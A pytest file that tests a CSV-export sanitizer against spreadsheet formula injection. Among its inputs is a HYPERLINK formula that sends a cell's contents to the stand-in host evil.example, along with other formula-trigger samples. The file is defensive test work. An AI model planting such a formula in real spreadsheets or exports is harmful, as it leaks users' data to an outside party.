from __future__ import annotations

import csv
import io

import pytest

from rotations.exports.csvsafe import safe_cell, writer


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
        "+SUM(1;2)",
        "-2+3",
        "@cmd",
        "\tx",
        "\rx",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana", "Smith, Jr.", 'Zoë "Z" Åberg', "", "a=b", "3"])
def test_plain_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_escapes_every_cell_and_stays_valid_csv():
    out = io.StringIO()
    writer(out).writerow(["=1+1", 'O\'Neil, "Jack"', None, 7])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", 'O\'Neil, "Jack"', "", "7"]


def test_a_cell_with_a_bare_carriage_return_stays_one_cell():
    out = io.StringIO()
    writer(out).writerows([["E1", "line\rbreak", "a\nb"], ["E2", "x", "y"]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["E1", "line\rbreak", "a\nb"], ["E2", "x", "y"]]
